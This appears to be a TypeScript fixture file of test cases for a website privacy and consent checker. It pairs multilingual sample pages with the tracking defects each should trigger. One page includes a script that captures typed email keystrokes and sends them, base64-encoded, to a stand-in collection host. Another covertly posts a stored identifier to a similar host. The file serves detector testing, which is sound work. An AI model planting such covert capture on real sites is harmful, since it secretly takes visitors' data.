import { type Case, PAGE_DOUBT, PAGE_HEADERS } from "../case.ts";
import { EN_POLICY, page } from "../page.ts";

export const tracking: readonly Case[] = [
  {
    host: "bbang.example",
    territories: ["KR"],
    truth: {
      defect: `${PAGE_HEADERS} consent.cookies-before consent.trackers-before consent.banner-present`,
      fine: "policy.link",
    },
    othersSoundBut: PAGE_DOUBT,
    site: page({
      lang: "ko",
      title: "강가의 빵집",
      link: "개인정보 처리방침",
      policy: "<p>시행일: 2026년 3월 2일. 개인정보처리자: 빵집 주식회사. 이용 목적: 배송.</p>",
      body: `<script src="https://wcs.naver.net/wcslog.js"></script>`,
    }),
  },
  {
    host: "clinica.example",
    territories: ["EU"],
    truth: {
      defect: `${PAGE_HEADERS} pixel.present pixel.hashed-identifiers consent.trackers-before consent.cookies-before consent.banner-present`,
    },
    othersSoundBut: PAGE_DOUBT,
    site: page({
      lang: "es",
      title: "Clínica del puerto",
      link: "Política de privacidad",
      policy: "<p>Última actualización: 1 de agosto de 2026</p>",
      body: `<script>window.__em="&ud%5Bem%5D="+"b58996c504c5638798eb6b511e6f49af"+"b58996c504c5638798eb6b511e6f49af"</script><script src="https://connect.facebook.net/es_ES/fbevents.js"></script>`,
    }),
  },
  {
    host: "saas.example",
    territories: ["EU"],
    truth: {
      defect: `${PAGE_HEADERS} keystroke.capture tracking.first-party-disguise consent.trackers-before consent.banner-present`,
    },
    othersSoundBut: `${PAGE_DOUBT} consent.cookies-before replay.present pixel.present pixel.hashed-identifiers form.minimisation tracking.streams`,
    site: page({
      lang: "nl",
      title: "Rooster voor bakkers",
      link: "Privacyverklaring",
      policy: "<p>Laatst bijgewerkt: 1 juni 2026</p>",
      body: `<form action="/aanmelden" method="post"><input type="email" name="mail" placeholder="E-mail"><button>Aanmelden</button></form><script>document.querySelector("input").addEventListener("input",function(e){navigator.sendBeacon("https://collect.unbekannt-daten.example/k",JSON.stringify({v:btoa(e.target.value)}))});fetch("/ingest/e/?ver=1.2&ip=1",{method:"POST",body:JSON.stringify({api_key:"phc_abc",distinct_id:"0190aaaa-bbbb-7ccc-8ddd-eeeeffff0000"})})</script>`,
    }),
  },
  {
    host: "film.example",
    territories: ["EU"],
    truth: {
      defect: `${PAGE_HEADERS} consent.trackers-before consent.third-party-cookies-before consent.banner-present`,
    },
    othersSoundBut: `${PAGE_DOUBT} consent.cookies-before cookie.lifetime`,
    site: page({
      lang: "it",
      title: "Il cinema sul molo",
      link: "Informativa privacy",
      policy: "<p>Ultimo aggiornamento: 10 marzo 2026</p>",
      body: `<iframe width="560" height="315" src="https://www.youtube.com/embed/abc"></iframe><script src="https://maps.googleapis.com/maps/api/js"></script>`,
    }),
  },
  {
    host: "chat.example",
    territories: ["EU"],
    truth: {
      defect: `${PAGE_HEADERS} consent.trackers-before consent.cookies-before consent.banner-present`,
    },
    othersSoundBut: PAGE_DOUBT,
    site: page({
      lang: "sv",
      title: "Cykelverkstan",
      link: "Integritetspolicy",
      policy: "<p>Senast uppdaterad: 5 maj 2026</p>",
      body: `<div style="height:2500px"></div><script>addEventListener("scroll",function(){var s=document.createElement("script");s.src="https://widget.intercom.io/widget/abcd1234.js";document.head.append(s)},{once:true})</script>`,
    }),
  },
  {
    host: "keller.example",
    territories: ["EU"],
    truth: {
      open: "consent.storage-before pixel.present",
      defect: `${PAGE_HEADERS} consent.trackers-before`,
    },
    othersSoundBut: `${PAGE_DOUBT} consent.banner-present replay.present tracking.first-party-disguise`,
    site: page({
      lang: "de",
      title: "Kellertheater",
      link: "Datenschutz",
      policy: "<p>Stand: 1. Juni 2026</p>",
      body: `<script>var q=indexedDB.open("besuche",1);q.onupgradeneeded=function(){q.result.createObjectStore("wer")};q.onsuccess=function(){var id=crypto.randomUUID();q.result.transaction("wer","readwrite").objectStore("wer").put(id,"kennung");fetch("https://in.kto-wie.example/z",{method:"POST",mode:"no-cors",body:id})}</script>`,
    }),
  },
  {
    host: "kids-spiele.example",
    territories: ["EU", "US"],
    truth: {
      defect: `${PAGE_HEADERS} child.trackers consent.trackers-before consent.third-party-cookies-before gpc.honoured ccpa.opt-out-link consent.cookies-before consent.banner-present`,
    },
    othersSoundBut: `${PAGE_DOUBT} pixel.present`,
    site: page({
      lang: "en",
      title: "Games for kids",
      link: "Privacy",
      policy: EN_POLICY,
      body: `<script src="https://securepubads.g.doubleclick.net/tag/gpt.js"></script>`,
    }),
  },
];
